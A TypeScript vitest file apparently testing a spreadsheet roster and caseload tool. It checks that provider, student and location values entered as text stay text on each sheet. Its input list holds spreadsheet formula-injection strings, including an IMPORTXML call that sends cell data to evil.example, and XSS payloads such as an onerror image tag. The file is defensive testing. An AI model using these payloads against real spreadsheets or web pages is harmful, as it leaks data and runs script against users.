import { describe, expect, test } from 'vitest';
import {
  ask,
  caseload,
  draftOf,
  everything,
  handOver,
  install,
  keyOf,
  setUp,
  shown,
  smallRoster,
  smallRows,
} from './installed';

const NAMES = [
  '=IMPORTXML("http://evil.example/"&A1,"//a")',
  '=HYPERLINK("http://evil.example","Ramos")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  "'quoted",
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  'راموس، إلينا',
  '\u202eanelE ,somaR',
  '😀 Emoji, Ed',
  '1-2',
  '0012',
  'TRUE',
  '3/4',
];

describe.each(NAMES)('a provider, a student and a site named %s', (name) => {
  const rows = smallRows();
  for (const row of rows) {
    if (row[0] === '2000001') row[1] = name;
    if (row[1] === name && row[11] !== '') row[11] = name;
    row[13] = name;
  }
  const host = setUp(install(smallRoster('America/Chicago', rows)));

  test('are text in Providers, in the record and in what the sidebar gets', () => {
    expect(shown(host, 'Providers').map((row) => row[1])).toContain(name);
    const own = shown(host, 'Caseload log').filter((row) => row[8] === '2000001' && row[6] === 'service');
    expect(own.map((row) => row[9])).toEqual([name, name]);
    expect(caseload(host, name)[0]).toMatchObject({ studentId: '2000001', student: name });
    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
  });

  test('are put back into the roster as that text, when lines come to them', () => {
    const [line] = caseload(host, 'Cho, Ben');
    const input = { ...handOver(host, name, name, ''), person: keyOf(host, 'Cho, Ben') };
    const saved = ask(host, 'save', {
      ...input,
      drafts: [draftOf(line, { effective: '11/21/2026', provider: keyOf(host, name) })],
      reason: name,
    });
    expect(saved.saved).toBe(true);
    expect(shown(host, 'Roster').map((row) => row[11])).toEqual([
      'Provider',
      name,
      'Ramos, Elena',
      'Elena Ramos',
      name,
      'Okafor, Dele',
      '',
    ]);
    expect(shown(host, 'Caseload log').pop()?.[21]).toBe(name);
    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
    expect(ask(host, 'open', {})).toMatchObject({ stop: '', problems: [] });
  });
});

test('a location and a restriction typed in a form stay text on the Case assignments sheet, now and at every later save', () => {
  const host = setUp(install(smallRoster()));
  const add = (enrollment: string, person: string, begin: string) => {
    const { seen } = ask(host, 'assignments', { studentId: '2000002', household: false });
    const form = {
      studentId: '2000002',
      kind: 'service',
      enrollment,
      person: keyOf(host, person),
      begin,
      status: 'Pending',
      lastDay: '05/01/2027',
      returnsOn: '',
      location: '=HYPERLINK("http://evil.example")',
      restriction: '+1',
      reason: '@SUM(A1)',
      endTheirs: true,
      seen,
    } as const;
    const first = ask(host, 'addAssignment', { ...form, acknowledged: [] });
    if (first.saved) return first;
    return ask(host, 'addAssignment', { ...form, acknowledged: first.findings.map(({ code }) => code) });
  };
  const { enrollments } = ask(host, 'assignments', { studentId: '2000002', household: false });
  const line = enrollments[0]?.line ?? '';
  expect(add(line, 'Cho, Ben', '12/01/2026')).toMatchObject({ saved: true });
  expect(add(line, 'Okafor, Dele', '12/15/2026')).toMatchObject({ saved: true });
  const sheet = shown(host, 'Case assignments');
  expect(
    sheet.filter((row) => row[10] === '=HYPERLINK("http://evil.example")' && row[11] === '+1').length,
  ).toBeGreaterThan(0);
  expect(sheet.flat()).toContain('2027-05-01');
  expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
});
